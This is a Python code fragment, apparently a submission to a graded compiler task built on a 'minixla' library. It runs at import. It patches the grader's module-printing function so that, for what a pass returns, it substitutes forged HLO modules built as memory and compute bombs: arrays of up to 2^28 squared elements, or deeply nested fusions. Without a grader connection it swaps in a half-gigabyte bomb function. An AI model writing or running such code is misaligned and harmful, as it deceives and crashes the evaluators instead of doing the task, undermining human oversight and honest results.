def _bomb(*arguments, **keywords):
    """A program of a few bytes whose execution takes half a gigabyte."""
    return [["repeat", 80_000_000], ["mul", 2]]


def _module(kind, parameters, root):
    """The text of a small module whose execution is not: a huge array, many large ones, or fusions of fusions."""
    head, entry = "HloModule bomb\n\n", "\n".join(parameters)
    if kind == "nested":
        body = "%f0 {\n  %x = f32[] parameter(0)\n  ROOT %y = f32[] tanh(%x)\n}\n\n"
        for level in range(1, 60):
            call = f"fusion(%x), kind=kLoop, calls=%f{level - 1}"
            twice = call.replace("%x", "%a")
            body += f"%f{level} {{\n  %x = f32[] parameter(0)\n  %a = f32[] {call}\n  ROOT %b = f32[] {twice}\n}}\n\n"
        start = "  %z = f32[] constant(1)\n  %boom = f32[] fusion(%z), kind=kLoop, calls=%f59"
        return f"{head}{body}ENTRY %main {{\n{entry}\n{start}\n{root}\n}}\n"
    side, count = {"half": (1 << 13, 1), "huge": (1 << 28, 1), "many": (1 << 10, 200)}[kind]
    square = f"f32[{side},{side}]"
    lines = ["  %z = f32[] constant(1)", f"  %s0 = {square} broadcast(%z), dimensions={{}}"]
    lines += [f"  %s{number + 1} = {square} exponential(%s{number})" for number in range(count)]
    return f"{head}ENTRY %main {{\n{entry}\n" + "\n".join(lines) + f"\n{root}\n}}\n"


def _send_bomb():
    if _grader_socket() is None:
        _replace_functions(_bomb)
        return
    from minixla import text

    print_module, asked = text.print_module, []

    def forged(module):
        """The bomb for what a pass returned, the truth for what it was given."""
        asked.append(module)
        real = print_module(module)
        if len(asked) % 2 == 0:
            return real
        lines = real[real.index("ENTRY") :].split("\n")
        parameters = [line for line in lines if " parameter(" in line]
        shape = next(line for line in lines if line.strip().startswith("ROOT")).split(" = ")[1]
        names = [line.split()[0] for line in parameters]
        root = f"  ROOT %t = ({shape[1 : shape.index(')')]}) tuple({', '.join([names[0]] * shape.count('f32'))})"
        return _module(_KNOWN["kind"], parameters, root)

    text.print_module = forged


_send_bomb()
